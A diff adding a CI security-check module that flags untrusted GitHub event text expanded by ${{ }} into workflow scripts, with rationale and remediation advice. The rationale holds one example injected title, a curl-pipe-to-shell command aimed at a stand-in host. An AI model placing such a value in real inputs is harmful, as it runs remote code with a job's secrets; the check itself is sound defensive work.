@@ -1,0 +1,58 @@
+"""GHA007: outsider-controlled text expanded by ``${{ }}`` into a script."""
+
+from __future__ import annotations
+
+from typing import Iterator
+
+from ..api import Category, Check, Finding, Severity
+from ..models.workflow import Workflow, untrusted_contexts
+
+CHECK = Check(
+    code="GHA007",
+    name="template-injection",
+    title="Untrusted input expanded into a script",
+    severity=Severity.HIGH,
+    category=Category.CICD,
+    rationale=(
+        "`${{ }}` expressions are pasted into the script text before the shell sees it. "
+        "An issue title, a PR body, a branch name or a commit message is written by whoever "
+        "opens the issue or the fork, so a title like `\"; curl evil.sh | sh; #` becomes a "
+        "command that runs with the job's token and secrets. Quoting does not help: the "
+        "attacker controls the quotes too."
+    ),
+    remediation=(
+        "Pass the value through an environment variable: `env: TITLE: ${{ github.event.issue.title }}`.",
+        "Use it in the script as a quoted shell variable (`\"$TITLE\"`), never through `${{ }}`.",
+        "In actions/github-script, read `context.payload` (or `process.env`) instead of interpolating.",
+    ),
+    effort="30m",
+    references=(
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    ),
+    peers=("zizmor template-injection", "checkov CKV_GHA_2", "actionlint expression (untrusted input)"),
+)
+
+
+@CHECK.on(Workflow)
+def template_injection(wf: Workflow) -> Iterator[Finding]:
+    for job in wf.jobs:
+        for step in job.steps:
+            targets = []
+            if step.run is not None:
+                targets.append((step.node, "run", step.run, "script"))
+            action = step.action
+            if action is not None and action.is_action("actions/github-script"):
+                script = step.with_.get("script")
+                if isinstance(script, str):
+                    targets.append((step.with_, "script", script, "github-script"))
+            for node, key, text, what in targets:
+                found = untrusted_contexts(text)
+                if not found:
+                    continue
+                shown = ", ".join(found[:3]) + (" ..." if len(found) > 3 else "")
+                yield CHECK.finding(
+                    node, key, resource=step.resource,
+                    message=f"{step.label} of {job.label} expands {shown} into its {what}",
+                    evidence="; ".join(f"${{{{ {c} }}}}" for c in found[:3]),
+                )
